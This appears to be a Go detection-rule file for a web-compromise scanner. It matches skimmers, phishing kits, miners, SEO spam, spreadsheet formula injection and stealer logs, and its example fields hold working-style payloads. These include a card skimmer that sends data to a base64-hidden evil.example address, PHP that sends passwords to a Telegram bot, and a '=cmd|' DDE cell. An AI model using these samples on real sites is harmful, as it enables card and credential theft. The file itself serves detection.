@@ -1,0 +1,83 @@
+// Pages of web sites that intruders change, to rob or mislead their visitors.
+
+package baseline
+
+import "strings"
+
+const (
+	atSkimmers = "MITRE ATT&CK, T1056.003 (web portal capture)"
+	atPhishing = "MITRE ATT&CK, T1598.003 (phishing for information)"
+	atDriveBy  = "MITRE ATT&CK, T1189 (drive-by compromise)"
+	atSEO      = "MITRE ATT&CK, T1608.006 (SEO poisoning)"
+
+	// hiddenAddress is the address of a site, http: or wss: or //, in base64, as codes of letters, or in hexadecimal.
+	hiddenAddress = `\batob\s*\(\s*["'` + "`" + `](ahr0c|d3nz|ly9|ly8)|fromcharcode\s*\(\s*(104\s*,\s*116\s*,\s*116\s*,\s*112|119\s*,\s*115\s*,\s*115)\b|["'](\\x68\\x74\\x74\\x70|\\x77\\x73\\x73)`
+	// cardField is the name of a field with the number or the code of a payment card.
+	cardField = `\b(cc[_-]?(number|num|cid|cvv|cvc|exp\w*)|card[_-]?(number|num|code|cvv|cvc)|cvv2?|cvc2?|securitycode|ccnum)\b`
+	// searchEngines are three names of them at least.
+	searchEngines = `((google|bing|yahoo|aol|yandex|baidu|duckduckgo|\bask\b|\bmsn\b)[^;{}<]{0,40}){3}`
+	// aSecret is a password or a number that only its owner and his bank know.
+	aSecret = `(pass(word|wd|wort|code)?|pwd|passw|pin|tan|otp|cvv2?|cvc2?|ssn|card_?num(ber)?|cc_?num(ber)?)\d?`
+	// notSeen is a style of what visitors do not see.
+	notSeen = `(display:\s*none|visibility:\s*hidden|font-size:\s*0|(left|top|text-indent|margin-left):\s*-\d{3,}(px|em))`
+	// spam is what such links sell.
+	spam = `(buy|cheap|order|generic|discount)[ -](viagra|cialis|levitra|tramadol|xanax|kamagra)|(viagra|cialis|levitra)[ -](online|no[ -]prescription)|online[ -](casino|slots)|casino[ -](online|bonus)|payday[ -]loans?|replica[ -](watch|rolex|handbag)|essay[ -]writing[ -]service|slot[ -]gacor|\bjudi[ -](online|bola)`
+)
+
+// pagePlants are such pages.
+var pagePlants = []plant{
+	{what: "a script that reads payment cards, and hides the address that it sends them to", kind: loot, source: atSkimmers,
+		example: `document.querySelectorAll("input").forEach(e=>{if(/cc_number|cvv/i.test(e.name))d[e.name]=e.value});new Image().src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv")+btoa(JSON.stringify(d))`,
+		parts:   []part{like(hiddenAddress, "atob", "fromcharcode", `\x68\x74\x74\x70`, `\x77\x73\x73`), like(cardField, "cc", "card", "cv", "securitycode"), marked(".value", "formdata", "serialize(")}},
+	{what: "a script that sends payment cards as the address of a picture", kind: doubtful, source: atSkimmers,
+		example: `if(f["cc_number"].value){new Image().src="https://stats.example/g.gif?d="+btoa(JSON.stringify(f))}`,
+		parts:   []part{marked("btoa("), like(cardField, "cc", "card", "cv", "securitycode"), like(`new\s+image\b|\bsendbeacon\s*\(|\bcreateelement\(["']img`, "image", "sendbeacon", "createelement"), marked(".value", "formdata", "serialize(")}},
+
+	{what: "a page that sends the passwords of its visitors on, and its visitors to another site", kind: loot, source: atPhishing,
+		example: `<?php mail("a@b.example","Log","PIN: ".$_POST["pin"]."\nIP: ".$_SERVER["REMOTE_ADDR"]);header("Location: https://www.bank.example"); ?>`,
+		parts: []part{like(`\$_(post|request)\s*\[\s*["']\w*?`+aSecret+`["']`, "$_post", "$_request"), like(`\bmail\s*\(|\bfwrite\s*\(|\bfile_put_contents\s*\(|api\.telegram\.org/bot`, "mail", "fwrite", "file_put", "telegram"),
+			marked("remote_addr", "http_client_ip", "http_user_agent"), like(`\bheader\s*\(\s*["']location:\s*https?://|\b(window|document|top)\.location(\.href)?\s*=\s*["']https?://|http-equiv=["']?refresh[^>]*https?://`, "location", "refresh")}},
+	{what: "a page that sends the passwords of its visitors to a chat", kind: loot, source: atPhishing,
+		example: `<?php $m=$_POST["email"]." ".$_POST["password"];file_get_contents("https://api.telegram.org/bot123:AA/sendMessage?chat_id=1&text=".urlencode($m)); ?>`,
+		parts:   []part{like(`\$_(post|request)\s*\[\s*["']\w*?`+aSecret+`["']|\b(pass(word|wd)?|pwd|pin|otp)\b\w*\.value\b`, "$_post", "$_request", ".value"), marked("api.telegram.org/bot", "discord.com/api/webhooks", "discordapp.com/api/webhooks")}},
+	{what: "a page that hides from those who look for phishing", kind: doubtful, source: atPhishing,
+		example: "deny from phishtank.com\ndeny from google.com\ndeny from netcraft.com\n",
+		parts:   []part{marked("phishtank"), marked("google", "netcraft", "kaspersky", "paypal", "cyveillance", "paloalto"), marked("deny from", "remote_addr", "gethostbyaddr", "http_user_agent", "rewritecond")}},
+
+	{what: "a miner in a page", kind: loot, source: atMiners,
+		example: `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("6GlW").start();</script>`,
+		parts: []part{like(`\bnew\s+(coinhive|cryptoloot|crypta|coinimp|client|deepminer|projectpoi|minero|webminer\w*|wmp)\s*\.\s*(anonymous|user|token)\s*\(|\b(startmining|deepminer\.init|crlt\.anonymous|perfektstart)\s*\(`, "new ", "mining", "deepminer", "crlt", "perfektstart"),
+			like(`coin-?hive|crypto-?loot|crypta\b|coinimp|deepminer|webminepool|webmine\.|minero\.cc|monerominer|hashing\.win|freecontent\.|hostingcloud\.|ppoi\.org|\bthrottle\b`, "coin", "crypt", "mine", "hash", "freecontent", "hostingcloud", "ppoi", "throttle")}},
+
+	{what: "settings that lead only visitors from search engines to another site", kind: loot, source: atDriveBy,
+		example: "RewriteCond %{HTTP_REFERER} .*(google|bing|yahoo|ask|aol).* [NC]\nRewriteRule ^(.*)$ http://tds.example/in.cgi?7 [R=302,L]\n",
+		parts: []part{like(`rewritecond[^\n]*%\{http_referer\}[ \t]+[^!\n]*\b`+searchEngines+`|(rewritecond[^\n]*%\{http_referer\}[ \t]+[^!\n]*\b(google|bing|yahoo|aol|yandex|baidu|ask|msn)\b[^\n]*\n\s*){3}`, "%{http_referer}"),
+			like(`rewriterule[ \t]+\S+[ \t]+["']?https?://[^%\s]`, "rewriterule")}},
+	{what: "a page that leads only visitors from search engines to another site", kind: doubtful, source: atDriveBy,
+		example: `<?php if(preg_match("/google|bing|yahoo/i",$_SERVER["HTTP_REFERER"])){header("Location: http://tds.example/?k=1");exit;} ?>`,
+		parts:   []part{like(`http_referer["']?\s*\]?[\s\S]{0,200}`+searchEngines+`|`+searchEngines+`[\s\S]{0,200}http_referer|`+searchEngines+`[\s\S]{0,80}document\.referrer|document\.referrer[\s\S]{0,200}`+searchEngines, "referer", "referrer"), like(`\bheader\s*\(\s*["']location:\s*https?://|\blocation(\.href)?\s*=\s*["']https?://|\blocation\.replace\s*\(\s*["']https?://`, "location")}},
+	{what: "hidden links, as spam for search engines has them", kind: defaced, source: atSEO,
+		example: `<div style="position:absolute;left:-9999px"><a href="http://pillz.example/1">buy viagra</a></div>`,
+		parts:   []part{like(`style\s*=\s*["'][^"'>]*`+notSeen+`[^>]*>(\s|<\w+>|<!--|[^<]{0,40})*<a\s[^>]*>[^<]*(`+spam+`)|style\s*=\s*["'][^"'>]*`+notSeen+`[^>]*>\s*(<a\s[^>]*href\s*=\s*["']?https?://[^>]*>[^<]{0,80}</a>\s*){3}[\s\S]{0,400}(`+spam+`)`, "display", "visibility", "font-size", "position", "indent", "margin")}},
+
+	{what: "a table whose cells start programs", kind: loot, fetched: true, source: "MITRE ATT&CK, T1559.002 (dynamic data exchange); CWE-1236",
+		example: "1,=cmd|'/c calc'!A1,2\n",
+		parts:   []part{like(`(^|[,;\t"'\n])\s*[=+@-]\s*(@?sum\([^)]*\)\s*\*\s*|\d+\s*[+*-]\s*\d*\s*)?(cmd|powershell|msexcel|mshta|regsvr32|rundll32|wscript|cscript|certutil|bitsadmin|calc|notepad)(\.exe)?\s*\|\s*["']|(^|[,;\t"'\n])=\s*dde\s*\(\s*"+(cmd|powershell|mshta)`, "|", "dde")}},
+	{what: "a table whose cells send other cells to a site", kind: doubtful, fetched: true, source: "OWASP, CSV injection; CWE-1236",
+		example: "1,\"=HYPERLINK(\"\"http://203.0.113.9/?\"\"&A1&A2,\"\"ok\"\")\"\n",
+		parts:   []part{like(`[=+@-]\s*(hyperlink|webservice|image|importxml|importdata|importhtml|importfeed)\s*\(\s*(concat\w*\s*\(\s*)?"+(https?|ftp)://[^"\n]*"+\s*[&,;]\s*(concat\w*\s*\(\s*)?\$?[a-z]{1,2}\$?\d`, "hyperlink", "webservice", "image", "import")}},
+}
+
+// stolenTexts are texts that programs which steal passwords write.
+var stolenTexts = []plant{
+	{what: "the text of a program that steals passwords", kind: loot, source: "MITRE ATT&CK, T1555.003 (credentials from web browsers)",
+		example: strings.Repeat("Soft: Edge\r\nHost: https://www.example\r\nLogin: ada\r\nPassword: x1\r\n\r\n", 2),
+		parts: []part{like(`\b(soft(ware)?|browser( name)?|storage|app(lication)?|profile)[ \t]*:[^\n]{0,99}\n\s*((profile|name)[ \t]*:[^\n]*\n\s*)?(host(name)?|url|link|site|domain|origin)[ \t]*:[^\n]{0,300}\n\s*(user( ?name)?|usr|login|e-?mail)[ \t]*:[^\n]{0,200}\n\s*(pass( ?word)?|pwd|psw)[ \t]*:`, "soft", "browser", "storage", "app", "profile"),
+			marked("pass", "pwd", "psw")}},
+	{what: "the text of a program that steals passwords, of several sites", kind: loot, source: "MITRE ATT&CK, T1555.003 (credentials from web browsers)",
+		example: strings.Repeat("URL: https://www.example/\nUSR: ada\nPASS: x1\n\n", 3),
+		parts:   []part{like(`((host|url)[ \t]*:[ \t]*https?://[^\n]{0,300}\n\s*(usr|user|login)[ \t]*:[^\n]{0,200}\n\s*(pass|pwd|psw)[ \t]*:[^\n]{0,200}\n[\s=*_-]*){3}`, "usr:", "pass:", "psw:", "pwd:")}},
+	{what: "what a program that steals passwords writes about a computer", kind: doubtful, source: "MITRE ATT&CK, T1082 (system information discovery)",
+		example: "Build ID: u1\nIP: 203.0.113.7\nHWID: 9A3F\nCountry: DE\n",
+		parts:   []part{marked("hwid:", "hwid :", "machineid:", "machine guid:"), like(`\bbuild( ?id|_id)\s*:`, "build"), marked("country", "ip:", "ip address")}},
+}
